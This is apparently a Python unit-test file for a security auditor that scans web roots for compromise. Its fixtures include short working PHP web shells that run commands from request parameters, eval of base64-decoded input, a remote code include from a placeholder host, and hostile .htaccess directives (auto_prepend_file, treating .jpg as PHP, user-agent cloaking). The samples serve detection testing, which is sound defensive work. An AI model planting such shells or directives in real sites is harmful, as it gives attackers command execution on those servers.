import subprocess

import pytest

from auditor.model.fact import Why
from auditor.probe import web_root, web_root_script
from tests.unit.probe.asking import parse, why
from tests.unit.probe.test_texts import HELPERS, SHELLS

END = "#0\n=1\tscanned\n"
SUBJECTS = (
    "shells",
    "uploaded_code",
    "disguised",
    "overrides",
    "secrets",
    "repositories",
    "dumps",
    "info_pages",
    "open",
    "gambling",
)

FILES = {
    "wp-content/uploads/a.php": "<?php\n\nEVAL ( @base64_decode($x));",
    "wp-content/uploads/index.php": "<?php // Silence",
    "s.php": '<?php @system($_GET["c"]); $_GET["a"]($_POST["b"]);',
    "b.php": "<?php\necho `$_GET[c]`;",
    "p.php": '<?php preg_replace("/.*/e", $x, "");\n phpinfo();\nphpinfo();',
    "r.php": '<?php include("http://x/y.txt");\n$f = chr(101).chr(118) . chr(97).chr(108);',
    "wso.php": "<?php // FilesMan",
    "ok.php": '<?php $d->exec($_POST["x"]); curl_exec($c); preg_replace("/e/", "x", $_GET["a"]);',
    "foto.jpg.php": "x",
    ".htaccess": "# AddType php .jpg\nphp_value auto_prepend_file /tmp/x\n"
    "AddType application/x-httpd-php .jpg\n"
    "RewriteCond %{HTTP_USER_AGENT} (google|bing) [NC]\n"
    "RewriteCond %{HTTP_REFERER} !google [NC]\nphp_flag allow_url_include on\n",
    "sub/.user.ini": "auto_prepend_file = none\nauto_append_file=/x\n",
    ".env": "X=1",
    ".env.example": "X=1",
    "db.sql": "x",
    "vendor/x/y.sql": "x",
    "w.html": "<p>slot gacor</p> togel maxwin",
    "news.html": "polisi menangkap bandar togel",
    ".git/HEAD": "x",
    "slot-gacor/index.html": "x",
    "odd\nname.php": "x",
}


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    root = tmp_path_factory.mktemp("site")
    for name, text in FILES.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(0o644)
    (root / "w.html").chmod(0o666)
    return root


def walked(site, shell, awk):
    text = web_root_script.TEXT.replace("/var/www ", f"{site} ").replace("awk -v", f"{awk} -v")
    done = subprocess.run(
        [*shell, "-c", f"{HELPERS}s() {{\n{text}\n}}\ns\n"],
        capture_output=True,
        text=True,
        check=True,
    )
    return done.stdout


@pytest.mark.parametrize("awk", ["mawk", "gawk", "busybox awk"])
@pytest.mark.parametrize("shell", SHELLS, ids=" ".join)
def test_a_site_is_judged_where_it_lies(site, shell, awk):
    found = parse(web_root, walked(site, shell, awk))

    def signs(subject):
        return {
            (row["path"].removeprefix(f"{site}/"), row["sign"], row["place"].rpartition(":")[2])
            for row in found[subject]
            if row["path"].startswith(f"{site}/")
        }

    assert signs("shells") == {
        ("wp-content/uploads/a.php", "eval-decoded", "3"),
        ("s.php", "input-run", "1"),
        ("s.php", "input-called", "1"),
        ("b.php", "input-run", "2"),
        ("p.php", "preg-eval", "1"),
        ("r.php", "remote-include", "1"),
        ("r.php", "built-name", "2"),
        ("wso.php", "shell-words", "1"),
        ("wso.php", "known-name", f"{site}/wso.php"),
    }
    assert {sign for _, sign, _ in signs("overrides")} == {
        "prepend",
        "handler",
        "visitors",
        "include",
    }
    assert signs("info_pages") == {("p.php", "info", "2")}
    for subject, names in {
        "uploaded_code": {"wp-content/uploads/a.php"},
        "disguised": {"foto.jpg.php"},
        "secrets": {".env"},
        "repositories": {".git"},
        "dumps": {"db.sql"},
        "open": {"w.html"},
        "gambling": {"w.html", "slot-gacor"},
    }.items():
        assert {name for name, _, _ in signs(subject)} == names
    assert found["writable_code"] == 0


def test_a_file_whose_name_cannot_be_said_is_not_taken_for_clean(site):
    only = "".join(
        line for line in walked(site, ["dash"], "mawk").splitlines(keepends=True)
        if not line.startswith(("shell ", "override", "gambling", "info"))
    )  # fmt: skip
    found = parse(web_root, only)

    assert "shells" not in found
    assert "secrets" in found
    assert found["gap"]["why"] is Why.CUT


def test_roots_are_those_of_nginx_and_apache(tmp_path):
    conf = tmp_path / "x.conf"
    conf.write_text(
        f"server {{ root {tmp_path}/a; location / {{ root\t{tmp_path}/b ; }} }}\n# root /c;\n"
        f'  DocumentRoot "{tmp_path}/d/"\nroot $x;\nDocumentRoot /\nroot {tmp_path}/none;\n'
        f"root {tmp_path}/a/inner;\n"
    )
    for name in ("a/inner", "b", "d"):
        (tmp_path / name).mkdir(parents=True)
    text = web_root_script.TEXT.replace("/etc/nginx/nginx.conf ", f"{conf} ")
    text = text.replace("/etc/nginx/sites-enabled/* ", "").replace(
        "/etc/apache2/sites-enabled/* ", ""
    )
    done = subprocess.run(
        ["dash", "-c", f"{HELPERS}s() {{\n{text}\n}}\ns\n"],
        capture_output=True,
        text=True,
        check=True,
    )
    found = parse(web_root, done.stdout)

    configured = {row["path"] for row in found["roots"] if row["configured"]}
    assert configured == {f"{tmp_path}/{name}" for name in ("a", "b", "d", "a/inner")}
    assert found["broad"] == ["/"]


def test_no_site_has_nothing_to_hide():
    found = parse(web_root, "")

    assert found["roots"] == []
    assert all(found[subject] == [] for subject in SUBJECTS)
    assert "gap" not in found


def hit(mark, path="/var/www/html/x", line="0", mode="644"):
    return f"{mark}\t{line}\t{mode}\troot\t{path}\n"


def test_repositories_matter_where_visitors_reach_them():
    inside = "/srv/app/public/.git"
    text = f"root\t/srv/app/public\n{hit('repository', '/srv/app/.git')}{hit('repository', inside)}"
    assert [row["path"] for row in parse(web_root, text + END)["repositories"]] == [inside]

    usual = (
        f"usual\t/var/www\nusual\t/srv/www\nroot\t/var/www/html\n{hit('dump', '/var/www/a.sql')}"
    )
    assert parse(web_root, usual + END)["dumps"] == []
    text = usual + hit("dump", "/srv/www/a.sql") + END
    assert [row["path"] for row in parse(web_root, text)["dumps"]] == ["/srv/www/a.sql"]


@pytest.mark.parametrize(
    ("end", "reason"),
    [
        ("", Why.TIMEOUT),
        ("#124\n=1\tscanned\n", Why.TIMEOUT),
        ("#1\n=1\tscanned\n", Why.UNREADABLE),
        (f"elsewhere\t0\t-\t-\t/var/www/nfs\n{END}", Why.UNREADABLE),
    ],
)
def test_a_walk_that_was_not_whole_proves_only_what_it_found(end, reason):
    found = parse(web_root, f"usual\t/var/www\n{hit('secret')}{end}")

    assert [row["path"] for row in found["secrets"]] == ["/var/www/html/x"]
    assert "shells" not in found
    assert found["gap"]["why"] is reason


def test_code_that_was_not_read_may_hide_a_shell():
    unread = hit("unread")
    for line in (unread, "!budget\n"):
        found = parse(web_root, f"usual\t/var/www\n{line}{END}")
        assert "shells" not in found
        assert found["secrets"] == []
        assert found["gap"]["why"] is Why.CUT
    found = parse(web_root, f"usual\t/var/www\n{unread}{hit('shell input-run')}{END}")
    assert len(found["shells"]) == 1


def test_of_too_many_files_those_not_named_may_be_served():
    text = f"root\t/srv/a\n{hit('dump', '/var/www/x.sql')}=201\tdump\n{END}"
    found = parse(web_root, text)

    assert "dumps" not in found
    assert found["gap"]["why"] is Why.CUT


def test_odd_lines_are_passed_over():
    found = parse(
        web_root, f"usual\t/var/www\nshell\tx\n=x\ty\nother\n{hit('open', mode='-')}{END}"
    )

    assert found["shells"] == []
    assert found["open"][0] == {
        "path": "/var/www/html/x",
        "sign": "open",
        "owner": "root",
        "place": "/var/www/html/x",
    }
    assert parse(web_root, f"usual\t/v\n=3\town\n{END}")["writable_code"] == 3


def test_a_failed_section_says_so():
    assert why(web_root, "", rc=2) is Why.UNREADABLE
